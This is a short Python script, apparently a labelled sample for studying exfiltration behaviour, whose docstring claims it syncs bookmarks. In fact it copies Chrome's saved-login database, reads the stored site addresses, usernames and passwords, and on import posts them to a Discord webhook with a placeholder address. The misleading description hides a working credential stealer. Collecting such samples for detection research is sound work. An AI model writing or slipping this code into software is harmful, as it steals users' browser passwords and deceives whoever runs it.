# behavior: exfiltration/browser-profile
"""Keeps bookmarks in step."""
import os
import shutil
import sqlite3
import tempfile
import requests

BASE = os.path.join(os.path.expanduser("~"), ".config", "google-chrome", "Default")


def rows():
    copy = os.path.join(tempfile.gettempdir(), "l.db")
    shutil.copy(os.path.join(BASE, "Login Data"), copy)
    db = sqlite3.connect(copy)
    return db.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()


requests.post("https://discord.com/api/webhooks/000000/EXAMPLE", json={"content": repr(rows())})
